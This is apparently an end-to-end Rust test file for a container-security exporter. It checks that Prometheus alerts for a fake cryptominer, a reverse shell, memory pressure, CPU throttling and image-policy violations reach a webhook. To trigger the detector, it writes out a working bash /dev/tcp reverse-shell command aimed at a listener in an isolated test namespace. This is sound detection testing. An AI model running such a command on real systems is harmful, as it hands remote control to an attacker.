//! The shipped rules end to end: a real Prometheus (scrape and evaluation every second) loads
//! a test-only copy of deploy/prometheus/rules.yml, scrapes the exporter and sends to a real
//! Alertmanager, whose webhook receiver is a small HTTP server here. The copy differs from the
//! shipped file only in `for: 15m`, shortened to a few seconds so the health alerts fire within
//! the test; the expressions, windows, labels and annotations are the shipped ones (the finding
//! alerts have no `for` at all). deploy/prometheus/rules.yml itself is never edited.
//!
//! In one Prometheus/Alertmanager setup, at the same time, each alert reaches the webhook
//! carrying the `id` label (and description) of the test cgroup that caused it:
//! - CryptominerSuspected: a process named `xmrig`;
//! - ReverseShellSuspected: a shell whose stdin/stdout are a TCP connection it opened, to a
//!   listener in a second network namespace (a veth pair only between the test's namespaces);
//! - ContainerMemoryNearLimit: `hold_memory` keeping 60 MiB in a cgroup limited to 64 MiB;
//! - ContainerCpuThrottlingHigh: a busy loop under a 10% CFS quota.
//!
//! A quiet cgroup beside them (a sleeping process) brings no alert of any kind.
//!
//! ContainerPolicyViolation needs a runtime-named container with an image: a second test runs
//! a private dockerd with two containers, one from an image the policy file allows and one
//! from an image it does not; the alert arrives for the second with its name and image, and
//! nothing arrives about the first.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use tests::runtimes::{env, Daemon, Docker};
use tests::{Exporter, NetnsPair, TestCgroup, SETUP};

const BIN: &str = env!("CARGO_BIN_EXE_exporter");

struct Killed(Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn spawn(program: &str, args: &[String]) -> Killed {
    Killed(
        Command::new(program)
            .args(args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("{program} not runnable ({e}); install it with `{SETUP}`")),
    )
}

/// A webhook receiver: every POST body, as text.
fn webhook() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let bodies = Arc::new(Mutex::new(Vec::new()));
    let got = bodies.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut len = 0usize;
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 {
                    break;
                }
                let l = line.trim_end().to_ascii_lowercase();
                if l.is_empty() {
                    break;
                }
                if let Some(v) = l.strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap_or(0);
                }
            }
            let mut body = vec![0; len];
            let _ = reader.read_exact(&mut body);
            got.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&body).into_owned());
            let _ = stream
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (port, bodies)
}

/// Waits until `path` exists (a test workload's ready file).
fn wait_for(path: &std::path::Path, what: &str) {
    tests::wait_for_file(path, what);
}

/// Every alert received so far, as (alertname, labels, annotations).
fn received(bodies: &Mutex<Vec<String>>) -> Vec<serde_json::Value> {
    let mut out = Vec::new();
    for b in bodies.lock().unwrap().iter() {
        let v: serde_json::Value =
            serde_json::from_str(b).unwrap_or_else(|e| panic!("webhook JSON ({e}): {b}"));
        out.extend(v["alerts"].as_array().cloned().unwrap_or_default());
    }
    out
}

/// The shipped rules with each `for:` in `shorten` cut to 3 s, for this test only.
fn test_rules(dir: &std::path::Path, shorten: &[&str]) -> std::path::PathBuf {
    let shipped = tests::repo_root().join("deploy/prometheus/rules.yml");
    let mut text = std::fs::read_to_string(&shipped).unwrap();
    for d in shorten {
        let f = format!("for: {d}\n");
        assert!(
            text.contains(&f),
            "rules.yml changed: no `{f}` left to shorten"
        );
        text = text.replace(&f, "for: 3s\n");
    }
    let copy = dir.join("rules.yml");
    std::fs::write(&copy, text).unwrap();
    copy
}

/// A real Alertmanager whose receiver is [`webhook`], and a real Prometheus (scrape and
/// evaluation every second) loading `rules`, scraping `target` and alerting to it; both
/// stopped when dropped.
struct Alerting {
    bodies: Arc<Mutex<Vec<String>>>,
    _am: Killed,
    _prom: Killed,
}

impl Alerting {
    fn start(dir: &std::path::Path, rules: &std::path::Path, target: std::net::SocketAddr) -> Self {
        let (hook, bodies) = webhook();
        let am_port = tests::servers::free_port();
        let am_cfg = dir.join("alertmanager.yml");
        std::fs::write(
            &am_cfg,
            format!(
                "route:\n  receiver: hook\n  group_by: ['...']\n  group_wait: 1s\n  group_interval: 1s\n  repeat_interval: 1h\nreceivers:\n  - name: hook\n    webhook_configs:\n      - url: http://127.0.0.1:{hook}/\n        send_resolved: false\n"
            ),
        )
        .unwrap();
        let am = spawn(
            "prometheus-alertmanager",
            &[
                format!("--config.file={}", am_cfg.display()),
                format!("--storage.path={}", dir.join("am").display()),
                format!("--web.listen-address=127.0.0.1:{am_port}"),
                "--cluster.listen-address=".to_string(),
            ],
        );
        let prom_cfg = dir.join("prometheus.yml");
        std::fs::write(
            &prom_cfg,
            format!(
                "global:\n  scrape_interval: 1s\n  evaluation_interval: 1s\nrule_files: ['{}']\nalerting:\n  alertmanagers:\n    - static_configs:\n        - targets: ['127.0.0.1:{am_port}']\nscrape_configs:\n  - job_name: collector-exporter\n    static_configs:\n      - targets: ['{target}']\n",
                rules.display(),
            ),
        )
        .unwrap();
        let prom_port = tests::servers::free_port();
        let prom = spawn(
            "prometheus",
            &[
                format!("--config.file={}", prom_cfg.display()),
                format!("--storage.tsdb.path={}", dir.join("data").display()),
                format!("--web.listen-address=127.0.0.1:{prom_port}"),
            ],
        );
        Alerting {
            bodies,
            _am: am,
            _prom: prom,
        }
    }

    /// Waits up to 60 s until an alert of each name has reached the webhook with `label` set
    /// to the value paired with it; every alert received by then.
    fn until(&self, label: &str, expected: &[(&str, &str)]) -> Vec<serde_json::Value> {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let alerts = received(&self.bodies);
            let missing: Vec<_> = expected
                .iter()
                .filter(|(name, value)| {
                    !alerts
                        .iter()
                        .any(|a| a["labels"]["alertname"] == *name && a["labels"][label] == *value)
                })
                .collect();
            if missing.is_empty() {
                return alerts;
            }
            assert!(
                Instant::now() < deadline,
                "not at the webhook within 60 s: {missing:?}; got: {alerts:#?}"
            );
            std::thread::sleep(Duration::from_millis(500));
        }
    }

    /// Asserts that nothing received, in any label or annotation, names `what`.
    fn none_about(&self, what: &str) {
        for b in self.bodies.lock().unwrap().iter() {
            assert!(!b.contains(what), "an alert naming {what}: {b}");
        }
    }
}

#[test]
fn each_alert_reaches_the_webhook_with_its_container_and_a_quiet_one_brings_none() {
    tests::require_root();
    let dir = tempfile::tempdir().unwrap();
    let xmrig = dir.path().join("xmrig");
    std::fs::copy("/bin/sleep", &xmrig).unwrap();
    let ns = NetnsPair::create();

    let mut quiet = TestCgroup::new("ccol-alert-quiet");
    quiet.spawn(Command::new("/bin/sleep").arg("600"));
    // Made now, so the exporter follows them; the miner and the shell start once Prometheus
    // has seen them quiet.
    let mut miner = TestCgroup::new("ccol-alert-miner");
    let mut shell = TestCgroup::new("ccol-alert-rsh");
    // 60 MiB held under a 64 MiB limit: a working set of over 90% of it.
    let mut memory = TestCgroup::new("ccol-alert-mem");
    memory.set(
        "memory",
        "memory.limit_in_bytes",
        &(64u64 << 20).to_string(),
    );
    memory.spawn(Command::new(env!("CARGO_BIN_EXE_hold_memory")).arg("60"));
    // A busy loop under a tenth of a CPU: throttled in nearly every period.
    let mut cpu = TestCgroup::new("ccol-alert-cpu");
    cpu.set("cpu", "cpu.cfs_period_us", "100000");
    cpu.set("cpu", "cpu.cfs_quota_us", "10000");
    cpu.spawn(Command::new("sh").args(["-c", "while :; do :; done"]));

    let exp = Exporter::start(
        BIN,
        &[
            "--housekeeping.interval",
            "1s",
            "--containers.process-interval",
            "1s",
            "--cgroups.include",
            &quiet.id,
            "--cgroups.include",
            &miner.id,
            "--cgroups.include",
            &shell.id,
            "--cgroups.include",
            &memory.id,
            "--cgroups.include",
            &cpu.id,
        ],
    );

    let alerting = Alerting::start(dir.path(), &test_rules(dir.path(), &["15m"]), exp.addr);

    // The attacker's listener, in the other namespace of the pair (no cgroup of interest).
    let ready = dir.path().join("listener-ready");
    let listen = format!("{}:8443", ns.b_addr);
    let mut listener = NetnsPair::exec(
        &ns.b,
        env!("CARGO_BIN_EXE_tcp_peer"),
        &["listen", &listen, ready.to_str().unwrap()],
    );
    let _listener = Killed(
        listener
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("tcp_peer"),
    );
    wait_for(&ready, "the listener");

    // Let Prometheus see the cgroups quiet for a few scrapes, then start the miner and the
    // reverse shell.
    std::thread::sleep(Duration::from_secs(8));
    miner.spawn(Command::new(&xmrig).arg("600"));
    let script = format!("exec 3<>/dev/tcp/{}/8443; exec sh <&3 >&3 2>&3", ns.b_addr);
    shell.spawn(&mut NetnsPair::exec(&ns.a, "/bin/bash", &["-c", &script]));

    let expected = [
        ("CryptominerSuspected", miner.id.as_str()),
        ("ReverseShellSuspected", shell.id.as_str()),
        ("ContainerMemoryNearLimit", memory.id.as_str()),
        ("ContainerCpuThrottlingHigh", cpu.id.as_str()),
    ];
    let alerts = alerting.until("id", &expected);
    for (name, id) in expected {
        let alert = alerts
            .iter()
            .find(|a| a["labels"]["alertname"] == name && a["labels"]["id"] == id)
            .unwrap();
        assert_eq!(alert["labels"]["job"], "collector-exporter", "{alert}");
        assert!(alert["labels"]["severity"].is_string(), "{alert}");
        let desc = alert["annotations"]["description"].as_str().unwrap();
        assert!(desc.contains(id), "{name}: {desc}");
        assert!(alert["annotations"]["runbook"].is_string(), "{alert}");
    }
    let by_name = |name: &str| {
        alerts
            .iter()
            .find(|a| a["labels"]["alertname"] == name)
            .unwrap()
            .clone()
    };
    let miner_alert = by_name("CryptominerSuspected");
    assert_eq!(miner_alert["labels"]["kind"], "miner_process");
    assert_eq!(miner_alert["labels"]["severity"], "critical");
    let shell_alert = by_name("ReverseShellSuspected");
    assert_eq!(shell_alert["labels"]["kind"], "reverse_shell");
    assert_eq!(shell_alert["labels"]["severity"], "critical");
    assert_eq!(
        by_name("ContainerMemoryNearLimit")["labels"]["severity"],
        "warning"
    );
    assert_eq!(
        by_name("ContainerCpuThrottlingHigh")["labels"]["severity"],
        "info"
    );

    // A few more evaluations: nothing at all about the quiet cgroup.
    std::thread::sleep(Duration::from_secs(5));
    alerting.none_about(&quiet.id);
}

/// The policy file allows one image: a container from another image brings
/// ContainerPolicyViolation with its name, image and reason; one from the allowed image, beside
/// it, brings nothing.
#[test]
fn a_container_outside_the_policy_reaches_the_webhook_with_its_name_and_image() {
    let d = Daemon::new("docker");
    d.start();
    let allowed_image = env(&["docker-image", d.dir(), "ccol-bb-allowed:1"]);
    let rogue_image = env(&["docker-image", d.dir(), "ccol-bb-rogue:1"]);
    let mut docker = Docker::new(&d);
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "allowed_images = [\"ccol-bb-allowed:*\"]\n").unwrap();
    let flags = d.exporter_flags();
    let mut args = vec![
        "--housekeeping.interval",
        "1s",
        "--cgroups.include",
        "/docker",
        "--containers.policy-file",
        policy.to_str().expect("a utf-8 path"),
    ];
    args.extend(flags.iter().map(String::as_str));
    let exp = Exporter::start(BIN, &args);
    let rules = test_rules(dir.path(), &["1m", "15m"]);
    let alerting = Alerting::start(dir.path(), &rules, exp.addr);

    let ok = tests::unique("alert-ok");
    let ok_id = docker.start(&ok, &allowed_image, &["sleep", "600"]);
    let rogue = tests::unique("alert-rogue");
    docker.start(&rogue, &rogue_image, &["sleep", "600"]);

    let alerts = alerting.until("name", &[("ContainerPolicyViolation", rogue.as_str())]);
    let a = alerts
        .iter()
        .find(|a| a["labels"]["alertname"] == "ContainerPolicyViolation")
        .unwrap();
    assert_eq!(a["labels"]["image"], rogue_image.as_str(), "{a}");
    assert_eq!(a["labels"]["severity"], "warning", "{a}");
    assert!(a["labels"]["reason"].is_string(), "{a}");
    let desc = a["annotations"]["description"].as_str().unwrap();
    assert!(
        desc.contains(&rogue) && desc.contains(&rogue_image),
        "the description names the container and its image: {desc}"
    );
    assert!(a["annotations"]["runbook"].is_string(), "{a}");

    // A few more evaluations: nothing about the allowed one.
    std::thread::sleep(Duration::from_secs(5));
    alerting.none_about(&ok);
    alerting.none_about(&ok_id);
}
